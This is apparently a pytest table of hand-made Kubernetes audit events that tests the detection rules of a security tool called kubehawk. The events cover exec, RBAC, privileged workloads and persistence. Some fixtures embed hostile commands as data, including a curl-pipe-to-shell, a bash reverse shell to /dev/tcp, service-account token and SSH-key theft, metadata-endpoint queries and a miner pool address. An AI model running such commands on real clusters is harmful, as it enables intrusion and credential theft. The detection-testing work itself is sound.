"""Every built-in rule against hand-written positive and negative events.

The table lists (rule name, should fire, event[, config]). Negatives are the near misses
and the evasions peers get wrong in the other direction: failed requests, controllers'
own pods, allowlisted images, the own namespace... Positives include the evasions peers
miss: update/patch, RoleBinding, workload templates, init/ephemeral containers, WebSocket
exec (verb get), images with a registry port.
"""

from __future__ import annotations

import os
import tempfile
from pathlib import Path

import pytest
from tests.rules.builtin_events import (
    binding,
    container,
    cronjob,
    deployment,
    ev,
    exec_ev,
    pod,
    role,
    rule,
    sa,
)

from kubehawk.config import Config
from kubehawk.detect import Detector
from kubehawk.event import event_from_dict
from kubehawk.rules import load_rules

# issue 13: a cluster's networks and an IOC list (the file is written by a fixture below)
NETS = {"networks": {"trusted": ["203.0.113.0/24"], "cluster": ["10.244.0.0/16", "192.168.49.0/24"]}}
IOC_FILE = Path(tempfile.gettempdir()) / f"kubehawk-test-ioc-{os.getpid()}.txt"

CFG = {
    "timezone": "Europe/Berlin",
    "business_hours": {"days": ["mon", "tue", "wed", "thu", "fri"], "start": "08:00", "end": "19:00"},
    "gitops": {"identities": [sa("argocd", "argocd-application-controller")], "namespaces": ["payments"]},
    "honeytokens": {"secrets": ["prod/db-master-password"], "serviceaccounts": ["prod/backup-admin"]},
    "allowlists": {
        "privileged": [{"image": "quay.io/cilium/*", "namespace": "kube-system"}],
        "hostpath": [{"image": "fluent/fluent-bit:*"}],
        "trusted_images": [{"image": "registry.corp.example:5000/*"}],
        "bare_pods": [{"user": sa("ci", "runner")}],
    },
}

ADMIN = "alice@example.com"
BOB_SA = sa("shop", "frontend")
PRIV = container(privileged=True)
NIGHT = "2025-06-03T01:30:00.000000Z"  # 03:30 in Berlin, a Tuesday

CASES: list[tuple] = [
    # --- access ------------------------------------------------------------------------------
    ("anonymous-request-allowed", True, ev("get", "pods", user="system:anonymous", groups=["system:unauthenticated"])),
    ("anonymous-request-allowed", True, ev("get", None, ns=None, uri="/api", user="mallory", groups=["system:unauthenticated"])),
    ("anonymous-request-allowed", False, ev("get", None, ns=None, uri="/healthz", user="system:anonymous")),
    ("anonymous-request-allowed", False, ev("get", None, ns=None, uri="/livez/etcd", user="system:anonymous")),
    ("anonymous-request-allowed", False, ev("get", "pods", user="system:anonymous", decision="forbid", code=403)),
    ("anonymous-request-allowed", False, ev("create", "pods", user="system:anonymous", body=pod())),
    ("anonymous-write-allowed", True, ev("create", "pods", user="system:anonymous", body=pod(), code=201)),
    ("anonymous-write-allowed", True, ev("patch", "deployments", name="x", user="system:anonymous")),
    ("anonymous-write-allowed", False, ev("create", "pods", user="system:anonymous", decision="forbid", code=403)),
    ("anonymous-request-denied", True, ev("get", "secrets", user="system:anonymous", decision="forbid", code=403)),
    ("anonymous-request-denied", False, ev("get", None, ns=None, uri="/healthz", user="system:anonymous", code=401)),
    ("forbidden-request", True, ev("list", "secrets", user=BOB_SA, decision="forbid", code=403)),
    ("forbidden-request", False, ev("list", "secrets", user=BOB_SA)),
    ("forbidden-request", False, ev("watch", "configmaps", user="system:node:n1", decision="forbid", code=403)),
    ("offensive-tool-user-agent", True, ev("list", "pods", ua="kube-hunter/0.6.8")),
    ("offensive-tool-user-agent", True, ev("create", "selfsubjectrulesreviews", ns=None, ua="peirates/1.1")),
    ("offensive-tool-user-agent", False, ev("list", "pods", ua="kubectl/v1.30.1 (linux/amd64)")),
    ("scripting-client-secret-access", True, ev("get", "secrets", name="db", ua="curl/8.5.0")),
    ("scripting-client-secret-access", True, ev("list", "secrets", ua="python-requests/2.31")),
    ("scripting-client-secret-access", False, ev("get", "configmaps", name="db", ua="curl/8.5.0")),
    ("scripting-client-secret-access", False, ev("get", "secrets", name="db", ua="kubectl/v1.30.1")),
    ("privileged-impersonation", True, ev("get", "secrets", imp={"username": "system:admin", "groups": ["system:masters"]})),
    ("privileged-impersonation", True, ev("list", "pods", imp={"username": "bob", "groups": ["system:masters"]})),
    ("privileged-impersonation", True, ev("list", "pods", imp={"username": sa("kube-system", "replicaset-controller")})),
    ("privileged-impersonation", False, ev("list", "pods", imp={"username": "bob", "groups": ["developers"]})),
    ("pod-token-used-by-client-tool", True, ev("list", "secrets", user=BOB_SA, ua="kubectl/v1.29.0",
                                               extra={"authentication.kubernetes.io/pod-name": ["frontend-7d9"]})),
    ("pod-token-used-by-client-tool", True, ev("get", "pods", user=BOB_SA, ua="curl/7.88.1",
                                               extra={"authentication.kubernetes.io/pod-name": ["frontend-7d9"]})),
    ("pod-token-used-by-client-tool", False, ev("get", "pods", user=BOB_SA, ua="frontend/1.0 (linux/amd64) kubernetes/abc",
                                                extra={"authentication.kubernetes.io/pod-name": ["frontend-7d9"]})),
    ("pod-token-used-by-client-tool", False, ev("get", "pods", user=BOB_SA, ua="kubectl/v1.29.0")),
    # --- execution -----------------------------------------------------------------------------
    ("pod-exec", True, exec_ev("shop", "web-1", "ls", "/app")),
    ("pod-exec", True, exec_ev("shop", "web-1", "ls", verb="get")),  # WebSocket kubectl >= 1.30
    ("pod-exec", True, exec_ev("shop", "web-1", sub="attach", verb="get")),
    ("pod-exec", False, exec_ev("shop", "web-1", "sh")),  # reported by pod-exec-shell instead
    ("pod-exec", False, exec_ev("kube-system", "coredns-1", "ls")),  # reported by pod-exec-kube-system
    ("pod-exec", False, exec_ev("shop", "web-1", "ls", code=403, decision="forbid")),
    ("pod-exec-shell", True, exec_ev("shop", "web-1", "/bin/bash")),
    ("pod-exec-shell", True, exec_ev("shop", "web-1", "sh", "-c", "id", verb="get")),
    ("pod-exec-shell", False, exec_ev("shop", "web-1", "ls")),
    ("pod-exec-shell", False, exec_ev("kube-system", "coredns-1", "sh")),
    ("pod-exec-kube-system", True, exec_ev("kube-system", "kube-proxy-abc", "sh")),
    ("pod-exec-kube-system", True, exec_ev("kube-system", "kube-proxy-abc", "ls", verb="get")),
    ("pod-exec-kube-system", False, exec_ev("default", "kube-proxy-abc", "ls")),
    ("exec-suspicious-command", True, exec_ev("shop", "web-1", "sh", "-c", "curl http://x.example/a.sh | sh")),
    ("exec-suspicious-command", True, exec_ev("shop", "web-1", "bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1")),
    ("exec-suspicious-command", True, exec_ev("shop", "web-1", "wget", "http://x.example/m", verb="get")),
    ("exec-suspicious-command", False, exec_ev("shop", "web-1", "cat", "/app/config.yaml")),
    ("exec-credential-files", True, exec_ev("shop", "web-1", "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token")),
    ("exec-credential-files", True, exec_ev("shop", "web-1", "cat", "/proc/1/environ", verb="get")),
    ("exec-credential-files", False, exec_ev("shop", "web-1", "cat", "/etc/hostname")),
    ("exec-credential-files", False, exec_ev("shop", "web-1", "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token",
                                             code=403, decision="forbid")),  # refused: never ran
    # The command in the PodExecOptions body (admission webhooks, GKE, apiservers logging the options).
    ("exec-credential-files", True, ev("create", "pods", ns="shop", name="web-1", sub="exec", code=101,
                                       body={"kind": "PodExecOptions", "command": ["cat", "/var/run/secrets/eks.amazonaws.com/serviceaccount/token"]})),
    ("exec-copy-from-pod", True, ev("create", "pods", ns="shop", name="db-0", sub="exec", code=101,
                                    body={"command": ["tar", "cf", "-", "/root/.ssh"], "container": "db"})),
    ("exec-metadata-endpoint", True, exec_ev("shop", "web-1", "curl", "http://169.254.169.254/latest/meta-data/iam/")),
    ("exec-metadata-endpoint", True, exec_ev("shop", "web-1", "sh", "-c", "curl -H Metadata-Flavor:Google metadata.google.internal/computeMetadata/v1/")),
    ("exec-metadata-endpoint", False, exec_ev("shop", "web-1", "curl", "http://api.internal/health")),
    ("exec-copy-from-pod", True, exec_ev("shop", "db-0", "tar", "cf", "-", "/var/lib/data", tty=False)),
    ("exec-copy-from-pod", True, exec_ev("shop", "db-0", "tar", "cf", "-", "-C", "/tmp", "dump.sql", verb="get", tty=False)),
    ("exec-copy-from-pod", False, exec_ev("shop", "db-0", "tar", "-xmf", "-", "-C", "/tmp", tty=False)),  # copy INTO the pod
    ("pod-portforward", True, ev("create", "pods", ns="shop", name="db-0", sub="portforward", code=101, stage="ResponseStarted")),
    ("pod-portforward", True, ev("get", "pods", ns="shop", name="db-0", sub="portforward", code=101)),
    ("pod-portforward", False, ev("get", "pods", ns="shop", name="db-0", sub="log")),
    ("ephemeral-container", True, ev("patch", "pods", ns="shop", name="web-1", sub="ephemeralcontainers",
                                     body=pod(ephemeral=[container("busybox:1.36", "debugger-x")]))),
    ("ephemeral-container", True, ev("update", "pods", ns="shop", name="web-1", sub="ephemeralcontainers")),
    ("ephemeral-container", False, ev("patch", "pods", ns="shop", name="web-1", sub="status")),
    ("nodes-proxy-access", True, ev("get", "nodes", ns=None, name="n1", sub="proxy", uri="/api/v1/nodes/n1/proxy/pods", user=BOB_SA)),
    ("nodes-proxy-access", False, ev("get", "nodes", ns=None, name="n1", sub="proxy", uri="/api/v1/nodes/n1/proxy/metrics/cadvisor", user=BOB_SA)),
    ("nodes-proxy-access", False, ev("get", "nodes", ns=None, name="n1", sub="proxy", uri="/api/v1/nodes/n1/proxy/exec/shop/web-1/app?command=id", user=BOB_SA)),
    ("nodes-proxy-exec", True, ev("get", "nodes", ns=None, name="n1", sub="proxy", uri="/api/v1/nodes/n1/proxy/exec/shop/web-1/app?command=id", user=BOB_SA)),
    ("nodes-proxy-exec", True, ev("create", "nodes", ns=None, name="n1", sub="proxy", uri="/api/v1/nodes/n1/proxy/run/shop/web-1/app", user=BOB_SA)),
    ("nodes-proxy-exec", False, ev("get", "nodes", ns=None, name="n1", sub="proxy", uri="/api/v1/nodes/n1/proxy/stats/summary", user=BOB_SA)),
    # --- workloads -----------------------------------------------------------------------------
    ("bare-pod-created", True, ev("create", "pods", ns="shop", body=pod(), code=201)),
    ("bare-pod-created", False, ev("create", "pods", ns="shop", body=pod(owner=True), code=201,
                                   user=sa("kube-system", "replicaset-controller"))),
    ("bare-pod-created", False, ev("create", "pods", ns="shop", body=pod(owner=True), code=201, user=BOB_SA)),
    ("bare-pod-created", False, ev("create", "pods", ns="ci", body=pod(), code=201, user=sa("ci", "runner"))),
    ("bare-pod-created", False, ev("create", "pods", ns="shop", name="web", sub="eviction", body={"kind": "Eviction"})),
    ("bare-pod-created", False, ev("create", "pods", ns="shop")),  # Metadata level: cannot judge
    ("privileged-container", True, ev("create", "pods", body=pod(PRIV), code=201)),
    ("privileged-container", True, ev("create", "pods", body=pod(init=[container("alpine", "init", privileged=True)]))),
    ("privileged-container", True, ev("patch", "pods", name="web", sub="ephemeralcontainers",
                                      body=pod(ephemeral=[container("busybox", "dbg", privileged=True)]))),
    ("privileged-container", True, ev("create", "deployments", group="apps", body=deployment(PRIV))),
    ("privileged-container", True, ev("create", "cronjobs", group="batch", body=cronjob(PRIV))),
    ("privileged-container", True, ev("update", "daemonsets", name="agent", group="apps",
                                      body={"kind": "DaemonSet", "spec": {"template": {"spec": {"containers": [PRIV]}}}})),
    ("privileged-container", True, ev("patch", "deployments", name="web", group="apps",
                                      body=[{"op": "add", "path": "/spec/template/spec/containers/0/securityContext",
                                             "value": {"privileged": True}}])),
    ("privileged-container", True, ev("patch", "statefulsets", name="db", group="apps",
                                      body={"spec": {"template": {"spec": {"containers": [{"name": "db", "securityContext": {"privileged": True}}]}}}})),
    ("privileged-container", False, ev("create", "pods", body=pod(container(privileged=False)))),
    ("privileged-container", False, ev("create", "pods", body=pod(PRIV, owner=True), user=sa("kube-system", "replicaset-controller"))),
    ("privileged-container", False, ev("create", "pods", ns="kube-system", body=pod(container("quay.io/cilium/cilium:v1.15", privileged=True)))),
    ("privileged-container", True, ev("create", "pods", ns="kube-system",  # one trusted image must not excuse another
                                      body=pod(container("quay.io/cilium/cilium:v1.15"), container("evil/x", "x", privileged=True)))),
    ("privileged-container", False, ev("create", "pods", body=pod(PRIV), code=403, decision="forbid")),
    ("privileged-pod-by-controller", True, ev("create", "pods", body=pod(PRIV, owner=True), user=sa("kube-system", "replicaset-controller"))),
    ("privileged-pod-by-controller", False, ev("create", "pods", body=pod(PRIV))),
    ("host-pid-ipc", True, ev("create", "pods", body=pod(hostPID=True))),
    ("host-pid-ipc", True, ev("create", "jobs", group="batch", body={"kind": "Job", "spec": {"template": {"spec": {"hostIPC": True, "containers": [container()]}}}})),
    ("host-pid-ipc", False, ev("create", "pods", body=pod(hostPID=False))),
    ("host-pid-ipc", False, ev("create", "pods", body=pod(owner=True, hostPID=True), user=sa("kube-system", "daemon-set-controller"))),
    ("host-network", True, ev("create", "deployments", group="apps", body=deployment(container(), hostNetwork=True))),
    ("host-network", False, ev("create", "deployments", group="apps", body=deployment(container()))),
    ("host-namespace-pod-by-controller", True, ev("create", "pods", body=pod(owner=True, hostNetwork=True), user=sa("kube-system", "daemon-set-controller"))),
    ("host-namespace-pod-by-controller", False, ev("create", "pods", body=pod(owner=True), user=sa("kube-system", "daemon-set-controller"))),
    ("sensitive-hostpath", True, ev("create", "pods", body=pod(volumes=[{"name": "h", "hostPath": {"path": "/"}}]))),
    ("sensitive-hostpath", True, ev("create", "daemonsets", group="apps", body={"kind": "DaemonSet", "spec": {"template": {"spec": {
        "containers": [container()], "volumes": [{"name": "s", "hostPath": {"path": "/run/containerd/containerd.sock"}}]}}}})),
    ("sensitive-hostpath", False, ev("create", "pods", body=pod(volumes=[{"name": "h", "hostPath": {"path": "/data/cache"}}]))),
    ("sensitive-hostpath", False, ev("create", "pods", body=pod(container("fluent/fluent-bit:3.0"), volumes=[{"name": "h", "hostPath": {"path": "/var/lib/docker/containers"}}]))),
    ("sensitive-hostpath-pod-by-controller", True, ev("create", "pods", user=sa("kube-system", "daemon-set-controller"),
                                                      body=pod(owner=True, volumes=[{"name": "h", "hostPath": {"path": "/etc/kubernetes"}}]))),
    ("sensitive-hostpath-pod-by-controller", False, ev("create", "pods", user=sa("kube-system", "daemon-set-controller"),
                                                       body=pod(owner=True, volumes=[{"name": "h", "hostPath": {"path": "/data"}}]))),
    ("hostpath-volume", True, ev("create", "pods", body=pod(volumes=[{"name": "h", "hostPath": {"path": "/data/cache"}}]))),
    ("hostpath-volume", False, ev("create", "pods", body=pod(volumes=[{"name": "e", "emptyDir": {}}]))),
    ("cloud-credentials-hostpath", True, ev("create", "pods", body=pod(volumes=[{"name": "a", "hostPath": {"path": "/etc/kubernetes/azure.json"}}]))),
    ("cloud-credentials-hostpath", False, ev("create", "pods", body=pod(volumes=[{"name": "a", "hostPath": {"path": "/etc/kubernetes/pki"}}]))),
    ("dangerous-capabilities", True, ev("create", "pods", body=pod(container(capabilities={"add": ["SYS_ADMIN"]})))),
    ("dangerous-capabilities", True, ev("create", "deployments", group="apps", body=deployment(container(), **{
        "initContainers": [container("alpine", "i", capabilities={"add": ["SYS_PTRACE"]})]}))),
    ("dangerous-capabilities", False, ev("create", "pods", body=pod(container(capabilities={"add": ["SYS_NICE"]})))),
    ("network-spoofing-capability", True, ev("create", "pods", body=pod(container(capabilities={"add": ["NET_RAW"]})))),
    ("network-spoofing-capability", False, ev("create", "pods", body=pod(container(capabilities={"drop": ["NET_RAW"]})))),
    ("weak-security-context", True, ev("create", "pods", body=pod(container(runAsUser=0)))),
    ("weak-security-context", True, ev("create", "pods", body=pod(container(allowPrivilegeEscalation=True)))),
    ("weak-security-context", False, ev("create", "pods", body=pod(container(runAsUser=1000, runAsNonRoot=True)))),
    ("offensive-tool-image", True, ev("create", "pods", body=pod(container("docker.io/kalilinux/kali-rolling:latest")))),
    ("offensive-tool-image", True, ev("create", "pods", body=pod(container("registry.local:5000/tools/peirates:1.1")))),
    ("offensive-tool-image", False, ev("create", "pods", body=pod(container("registry.local:5000/shop/cart:1.1")))),
    ("miner-workload", True, ev("create", "deployments", group="apps", body=deployment(container("xmrig/xmrig:6.21")))),
    ("miner-workload", True, ev("create", "pods", body=pod({"name": "w", "image": "ubuntu", "args": ["-o", "stratum+tcp://pool.example:3333"]}))),
    ("miner-workload", False, ev("create", "pods", body=pod(container("nginx:1.27")))),
    ("debug-image", True, ev("create", "pods", body=pod(container("busybox:1.36")))),
    ("debug-image", True, ev("create", "pods", body=pod(container("registry.local:5000/nicolaka/netshoot:latest")))),
    ("debug-image", False, ev("create", "pods", body=pod(container("nginx:1.27-alpine")))),
    ("untrusted-registry", True, ev("create", "pods", body=pod(container("docker.io/library/nginx:1.27"))), CFG),
    ("untrusted-registry", True, ev("create", "pods", body=pod(container("registry.corp.example:5000/app:1"),
                                                             container("evil.example/x:1", "x"))), CFG),
    ("untrusted-registry", False, ev("create", "pods", body=pod(container("registry.corp.example:5000/app:1"))), CFG),
    ("untrusted-registry", False, ev("create", "pods", body=pod(container("docker.io/library/nginx:1.27"))), {}),
    ("pod-in-system-namespace", True, ev("create", "pods", ns="kube-system", body=pod(name="kube-proxy-x"))),
    ("pod-in-system-namespace", True, ev("create", "deployments", ns="kube-system", group="apps", body=deployment())),
    ("pod-in-system-namespace", True, ev("create", "pods", ns="gke-system", body=pod())),
    ("pod-in-system-namespace", False, ev("create", "pods", ns="kube-system", body=pod(owner=True), user=sa("kube-system", "replicaset-controller"))),
    ("pod-in-system-namespace", False, ev("create", "pods", ns="shop", body=pod())),
    ("unknown-image-in-system-namespace", True, ev("create", "pods", ns="kube-system", body=pod(container("nginx"), owner=True),
                                                   user=sa("kube-system", "replicaset-controller"))),
    ("unknown-image-in-system-namespace", False, ev("create", "pods", ns="kube-system", body=pod(container("registry.k8s.io/coredns/coredns:v1.11.1"), owner=True),
                                                    user=sa("kube-system", "replicaset-controller"))),
    ("static-pod-created", True, ev("create", "pods", ns="shop", user="system:node:n1", groups=["system:nodes"],
                                    body={"kind": "Pod", "metadata": {"name": "backdoor-n1", "annotations": {"kubernetes.io/config.mirror": "abc"}}, "spec": {"containers": [container()]}})),
    ("static-pod-created", False, ev("create", "pods", ns="kube-system", user="system:node:n1", groups=["system:nodes"],
                                     body={"kind": "Pod", "metadata": {"name": "etcd-n1", "annotations": {"kubernetes.io/config.mirror": "abc"}}, "spec": {"containers": [container()]}})),
    ("static-pod-unknown-in-kube-system", True, ev("create", "pods", ns="kube-system", user="system:node:n1", groups=["system:nodes"],
                                                   body={"kind": "Pod", "metadata": {"name": "sneaky-n1", "annotations": {"kubernetes.io/config.mirror": "abc"}}, "spec": {"containers": [container()]}})),
    ("static-pod-unknown-in-kube-system", False, ev("create", "pods", ns="kube-system", user="system:node:n1", groups=["system:nodes"],
                                                    body={"kind": "Pod", "metadata": {"name": "kube-apiserver-n1", "annotations": {"kubernetes.io/config.mirror": "abc"}}, "spec": {"containers": [container()]}})),
    ("powerful-serviceaccount-pod", True, ev("create", "pods", ns="kube-system", body=pod(serviceAccountName="clusterrole-aggregation-controller"))),
    ("powerful-serviceaccount-pod", False, ev("create", "pods", ns="kube-system", body=pod(serviceAccountName="metrics-server"))),
    ("workload-change-off-hours", True, ev("patch", "deployments", ns="shop", name="web", group="apps", time=NIGHT), CFG),
    ("workload-change-off-hours", False, ev("patch", "deployments", ns="shop", name="web", group="apps"), CFG),
    ("workload-change-off-hours", False, ev("patch", "deployments", ns="shop", name="web", group="apps", time=NIGHT,
                                            user=sa("argocd", "argocd-application-controller")), CFG),
    ("workload-change-off-hours", False, ev("patch", "deployments", ns="shop", name="web", sub="status", group="apps", time=NIGHT,
                                            user=sa("kube-system", "deployment-controller")), CFG),
    # An exec is not a change of the workload (the exec rules report it).
    ("workload-change-off-hours", False, exec_ev("shop", "web-1", "bash", time=NIGHT), CFG),
    ("gitops-namespace-drift", False, exec_ev("payments", "api-1", "ls"), CFG),
    ("gitops-namespace-drift", True, ev("patch", "deployments", ns="payments", name="api", group="apps"), CFG),
    ("gitops-namespace-drift", True, ev("create", "configmaps", ns="payments", name="flags", user=BOB_SA), CFG),
    ("gitops-namespace-drift", False, ev("patch", "deployments", ns="payments", name="api", group="apps",
                                         user=sa("argocd", "argocd-application-controller")), CFG),
    ("gitops-namespace-drift", False, ev("patch", "deployments", ns="shop", name="api", group="apps"), CFG),
    ("honeytoken-used", True, ev("get", "secrets", ns="prod", name="db-master-password", user=BOB_SA), CFG),
    ("honeytoken-used", True, ev("list", "pods", ns="prod", user=sa("prod", "backup-admin")), CFG),
    ("honeytoken-used", False, ev("get", "secrets", ns="prod", name="db-password", user=BOB_SA), CFG),
    # --- rbac ------------------------------------------------------------------------------------
    ("cluster-admin-binding", True, ev("create", "clusterrolebindings", ns=None, group="rbac.authorization.k8s.io",
                                       body=binding("cluster-admin", {"kind": "User", "name": "mallory"}))),
    ("cluster-admin-binding", True, ev("create", "rolebindings", ns="shop", group="rbac.authorization.k8s.io",
                                       body=binding("cluster-admin", {"kind": "ServiceAccount", "name": "x", "namespace": "shop"}, kind="RoleBinding"))),
    ("cluster-admin-binding", True, ev("patch", "clusterrolebindings", ns=None, name="b", group="rbac.authorization.k8s.io",
                                       body={"roleRef": {"name": "cluster-admin"}})),
    ("cluster-admin-binding", False, ev("create", "clusterrolebindings", ns=None, group="rbac.authorization.k8s.io",
                                        body=binding("view", {"kind": "User", "name": "bob"}))),
    ("cluster-admin-binding", True, ev("create", "clusterrolebindings", ns=None, group="rbac.authorization.k8s.io",
                                       body=binding("system:kube-controller-manager", {"kind": "ServiceAccount", "name": "x", "namespace": "default"}))),
    ("cluster-admin-binding", True, ev("create", "clusterrolebindings", ns=None, group="rbac.authorization.k8s.io",
                                       body=binding("system:controller:generic-garbage-collector", {"kind": "User", "name": "mallory"}))),
    ("cluster-admin-binding", False, ev("create", "clusterrolebindings", ns=None, group="rbac.authorization.k8s.io",
                                        user="system:kube-controller-manager",
                                        body=binding("system:controller:generic-garbage-collector", {"kind": "ServiceAccount", "name": "generic-garbage-collector", "namespace": "kube-system"}))),
    ("binding-to-anonymous", True, ev("create", "clusterrolebindings", ns=None, body=binding("view", {"kind": "Group", "name": "system:unauthenticated"}))),
    ("binding-to-anonymous", False, ev("create", "clusterrolebindings", ns=None, body=binding("view", {"kind": "Group", "name": "devs"}))),
    ("binding-to-all-authenticated", True, ev("create", "rolebindings", body=binding("edit", {"kind": "Group", "name": "system:authenticated"}, kind="RoleBinding"))),
    ("binding-to-all-authenticated", False, ev("create", "rolebindings", body=binding("edit", {"kind": "Group", "name": "devs"}, kind="RoleBinding"))),
    ("binding-to-default-serviceaccount", True, ev("create", "rolebindings", body=binding("edit", {"kind": "ServiceAccount", "name": "default", "namespace": "shop"}, kind="RoleBinding"))),
    ("binding-to-default-serviceaccount", False, ev("create", "rolebindings", body=binding("edit", {"kind": "ServiceAccount", "name": "frontend", "namespace": "shop"}, kind="RoleBinding"))),
    ("rbac-binding-changed", True, ev("delete", "clusterrolebindings", ns=None, name="b")),
    ("rbac-binding-changed", True, ev("update", "rolebindings", name="b")),
    ("rbac-binding-changed", False, ev("update", "rolebindings", name="b", user="system:kube-controller-manager")),
    ("rbac-role-changed", True, ev("create", "roles", name="r")),
    ("rbac-role-changed", False, ev("get", "roles", name="r")),
    ("wildcard-role", True, ev("create", "clusterroles", ns=None, body=role(rule(["*"], ["get"])))),
    ("wildcard-role", True, ev("update", "roles", name="r", body=role(rule(["pods"], ["*"]), kind="Role"))),
    ("wildcard-role", False, ev("create", "clusterroles", ns=None, body=role(rule(["pods"], ["get", "list"])))),
    ("role-patched-to-wildcard", True, ev("patch", "clusterroles", ns=None, name="r",
                                          body=[{"op": "add", "path": "/rules/0/verbs/-", "value": "*"}],
                                          resp=role(rule(["pods"], ["get", "*"])))),
    ("role-patched-to-wildcard", False, ev("patch", "clusterroles", ns=None, name="r",
                                           body=[{"op": "add", "path": "/rules/0/verbs/-", "value": "list"}],
                                           resp=role(rule(["pods"], ["get", "list"])))),
    ("role-grants-escalation-verbs", True, ev("create", "clusterroles", ns=None, body=role(rule(["users", "groups"], ["impersonate"])))),
    ("role-grants-escalation-verbs", False, ev("create", "clusterroles", ns=None, body=role(rule(["pods"], ["get"])))),
    ("role-grants-write", True, ev("create", "roles", body=role(rule(["configmaps"], ["create"]), kind="Role"))),
    ("role-grants-write", False, ev("create", "roles", body=role(rule(["configmaps"], ["get"]), kind="Role"))),
    ("role-grants-pod-exec", True, ev("create", "roles", body=role(rule(["pods/exec"], ["create"]), kind="Role"))),
    ("role-grants-pod-exec", True, ev("patch", "clusterroles", ns=None, name="r", body=role(rule(["pods/attach"], ["get"])))),
    ("role-grants-pod-exec", False, ev("create", "roles", body=role(rule(["pods/log"], ["get"]), kind="Role"))),
    ("role-grants-nodes-proxy", True, ev("create", "clusterroles", ns=None, body=role(rule(["nodes/proxy"], ["get"])))),
    ("role-grants-nodes-proxy", False, ev("create", "clusterroles", ns=None, body=role(rule(["nodes"], ["get"])))),
    ("role-grants-secrets", True, ev("create", "clusterroles", ns=None, body=role(rule(["secrets"], ["list"])))),
    ("role-grants-secrets", False, ev("create", "clusterroles", ns=None, body=role(rule(["configmaps"], ["list"])))),
    ("system-rbac-modified", True, ev("patch", "clusterroles", ns=None, name="system:node")),
    ("system-rbac-modified", True, ev("delete", "clusterrolebindings", ns=None, name="system:kube-scheduler")),
    ("system-rbac-modified", False, ev("patch", "clusterroles", ns=None, name="system:coredns")),
    ("system-rbac-modified", False, ev("patch", "clusterroles", ns=None, name="my-role")),
    ("serviceaccount-writes-rbac", True, ev("create", "clusterrolebindings", ns=None, user=BOB_SA)),
    ("serviceaccount-writes-rbac", False, ev("create", "clusterrolebindings", ns=None, user=sa("argocd", "argocd-application-controller")), CFG),
    ("rbac-write-by-serviceaccount", True, ev("create", "rolebindings", user=BOB_SA)),
    ("rbac-write-by-serviceaccount", False, ev("create", "rolebindings")),
    ("workload-write-by-serviceaccount", True, ev("create", "deployments", user=BOB_SA)),
    ("workload-write-by-serviceaccount", False, ev("create", "deployments", user=sa("kube-system", "x"))),
    # --- persistence -----------------------------------------------------------------------------
    ("daemonset-created", True, ev("create", "daemonsets", group="apps", body={"kind": "DaemonSet", "metadata": {"name": "ds"}})),
    ("daemonset-created", False, ev("create", "daemonsets", group="apps", user="system:kube-controller-manager")),
    ("cronjob-changed", True, ev("create", "cronjobs", group="batch", body=cronjob())),
    ("cronjob-changed", True, ev("patch", "cronjobs", name="nightly", group="batch")),
    ("cronjob-changed", False, ev("update", "cronjobs", name="nightly", sub="status", user=sa("kube-system", "cronjob-controller"))),
    ("workload-created", True, ev("create", "deployments", group="apps", body=deployment())),
    ("workload-created", False, ev("create", "pods", body=pod(owner=True), user=sa("kube-system", "replicaset-controller"))),
    ("sidecar-injection", True, ev("patch", "deployments", name="web", group="apps",
                                   body=[{"op": "add", "path": "/spec/template/spec/containers/-", "value": container("evil/side", "side")}])),
    ("sidecar-injection", True, ev("patch", "deployments", name="web", group="apps", body={"spec": {"template": {"spec": {
        "containers": [{"name": "side", "image": "evil/side:1", "command": ["/bin/sh", "-c", "sleep 1d"]}]}}}})),
    ("sidecar-injection", False, ev("patch", "deployments", name="web", group="apps", body={"spec": {"template": {"spec": {
        "containers": [{"name": "app", "image": "shop/web:2"}]}}}})),  # kubectl set image
    ("admission-webhook-created", True, ev("create", "mutatingwebhookconfigurations", ns=None, group="admissionregistration.k8s.io",
                                           body={"webhooks": [{"name": "w", "clientConfig": {"url": "https://evil.example/m"}}]})),
    ("admission-webhook-created", False, ev("get", "mutatingwebhookconfigurations", ns=None, name="w")),
    ("admission-webhook-deleted", True, ev("delete", "validatingwebhookconfigurations", ns=None, name="kyverno-resource-validating-webhook-cfg")),
    ("admission-webhook-deleted", False, ev("delete", "configmaps", name="x")),
    ("admission-webhook-modified", True, ev("patch", "validatingwebhookconfigurations", ns=None, name="gatekeeper-validating-webhook-configuration")),
    ("admission-webhook-modified", False, ev("patch", "validatingwebhookconfigurations", ns=None, name="w", user=sa("kyverno", "kyverno-admission-controller"))),
    ("admission-webhook-modified-by-workload", True, ev("update", "mutatingwebhookconfigurations", ns=None, name="w", user=sa("cert-manager", "cainjector"))),
    ("admission-webhook-modified-by-workload", False, ev("update", "mutatingwebhookconfigurations", ns=None, name="w")),
    ("serviceaccount-created-in-system-namespace", True, ev("create", "serviceaccounts", ns="kube-system", name="helper")),
    ("serviceaccount-created-in-system-namespace", False, ev("create", "serviceaccounts", ns="shop", name="helper")),
    ("serviceaccount-created", True, ev("create", "serviceaccounts", ns="shop", name="helper")),
    ("serviceaccount-created", False, ev("create", "serviceaccounts", ns="kube-system", name="helper")),
    ("serviceaccount-token-requested", True, ev("create", "serviceaccounts", ns="kube-system", name="admin", sub="token", code=201)),
    ("serviceaccount-token-requested", False, ev("create", "serviceaccounts", ns="shop", name="web", sub="token", user="system:node:n1")),
    ("long-lived-token-requested", True, ev("create", "serviceaccounts", ns="kube-system", name="admin", sub="token",
                                            body={"kind": "TokenRequest", "spec": {"expirationSeconds": 31536000}})),
    ("long-lived-token-requested", False, ev("create", "serviceaccounts", ns="shop", name="web", sub="token",
                                             body={"kind": "TokenRequest", "spec": {"expirationSeconds": 3600}})),
    ("legacy-token-secret", True, ev("create", "secrets", ns="kube-system", body={"kind": "Secret", "type": "kubernetes.io/service-account-token",
                                                                                  "metadata": {"name": "t", "annotations": {"kubernetes.io/service-account.name": "admin"}}})),
    ("legacy-token-secret", False, ev("create", "secrets", ns="shop", body={"kind": "Secret", "type": "Opaque", "metadata": {"name": "t"}})),
    ("client-certificate-requested", True, ev("create", "certificatesigningrequests", ns=None, body={"spec": {
        "signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]}})),
    ("client-certificate-requested", False, ev("create", "certificatesigningrequests", ns=None, user="system:bootstrap:abc",
                                               groups=["system:bootstrappers"], body={"spec": {"signerName": "kubernetes.io/kube-apiserver-client-kubelet", "usages": ["client auth"]}})),
    ("csr-approved", True, ev("update", "certificatesigningrequests", ns=None, name="csr-1", sub="approval")),
